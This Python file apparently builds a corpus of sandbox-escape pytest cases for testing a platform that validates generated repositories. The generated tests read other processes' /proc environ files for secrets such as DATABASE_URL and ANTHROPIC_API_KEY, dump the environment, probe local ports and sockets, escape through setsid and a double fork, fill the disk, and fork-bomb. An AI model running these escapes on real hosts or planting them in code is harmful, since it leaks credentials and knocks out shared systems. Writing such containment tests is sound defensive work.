"""A corpus of hostile repository code: each case tries one way out of the validators' sandbox.

Every case is a pytest module that a generated repository could carry. It tries its escape, then
fails on purpose with one short line saying what it saw, so the validation report carries the
evidence: `MARKERS`, `LEAK`, `CONNECTED` and the like appear only if the escape worked.
"""

from __future__ import annotations

import json

#: Environment variables of the platform that must never be readable from inside.
PLATFORM_VARS = ("DATABASE_URL", "NATS_URL", "ANTHROPIC_API_KEY", "AMP_DATA_DIR", "AMP_S3_BUCKET")


def escape_tests(markers: list[str], ports: list[int], unix_sockets: list[str], tag: str) -> str:
    """Tests that write markers outside, read environments, connect to the platform, fork-bomb,
    fill the disk, escape with setsid and a double fork, and print the environment."""
    return f'''\
import json, os, socket, subprocess, time

MARKERS = {json.dumps(markers)}
PORTS = {json.dumps(ports)}
UNIX_SOCKETS = {json.dumps(unix_sockets)}
PLATFORM_VARS = {json.dumps(list(PLATFORM_VARS))}
TAG = {tag!r}


def test_write_markers_outside_the_repository():
    written = []
    for path in MARKERS:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write("escaped")
            written.append(path)
        except OSError:
            pass
    # "written" is what this side saw; whether anything reached the host is checked from outside.
    assert False, "MARKERS written=%d" % len(written)


def test_read_the_platform_environment():
    found = []
    sources = {{"self": dict(os.environ)}}
    for pid in ["1", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            raw = open("/proc/%s/environ" % pid, "rb").read().decode(errors="replace")
        except OSError:
            continue
        sources[pid] = dict(kv.split("=", 1) for kv in raw.split("\\0") if "=" in kv)
    for name, env in sources.items():
        for var in PLATFORM_VARS:
            if var in env:
                found.append("LEAK:%s@%s" % (var, name))
    print("ENVIRONMENT", json.dumps(dict(os.environ)))
    assert False, "ENVIRON sources=%d " % len(sources) + " ".join(found)


def test_connect_to_the_platform():
    reached = []
    for port in PORTS:
        s = socket.socket()
        s.settimeout(1)
        if s.connect_ex(("127.0.0.1", port)) == 0:
            reached.append("CONNECTED:%d" % port)
        s.close()
    for path in UNIX_SOCKETS:
        s = socket.socket(socket.AF_UNIX)
        try:
            s.connect(path)
            reached.append("CONNECTED:" + path)
        except OSError:
            pass
        s.close()
    assert False, "PORTS tried=%d " % (len(PORTS) + len(UNIX_SOCKETS)) + " ".join(reached)


def test_escape_with_setsid_and_a_double_fork():
    subprocess.Popen(["setsid", "sleep", TAG + "1"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", TAG + "2"])
        os._exit(0)
    time.sleep(0.2)


def test_fill_the_disk():
    written = 0
    for where in (".", "/tmp"):
        full = False
        for i in range(1000):
            if full:
                break
            try:
                with open(os.path.join(where, "fill%d" % i), "wb") as f:
                    for _ in range(32):
                        f.write(b"0" * (1 << 20))
                        written += 1
            except OSError:
                full = True
    assert False, "FILLED mb=%d" % written


def test_fork_bomb():
    n = 0
    while n < 5000:
        try:
            if os.fork() == 0:
                time.sleep(600)
                os._exit(0)
            n += 1
        except OSError:
            break
    assert False, "FORKED %d" % n


'''


def sleep_forever_test() -> str:
    return "import time\n\n\ndef test_sleep_forever():\n    while True:\n        time.sleep(3600)\n"
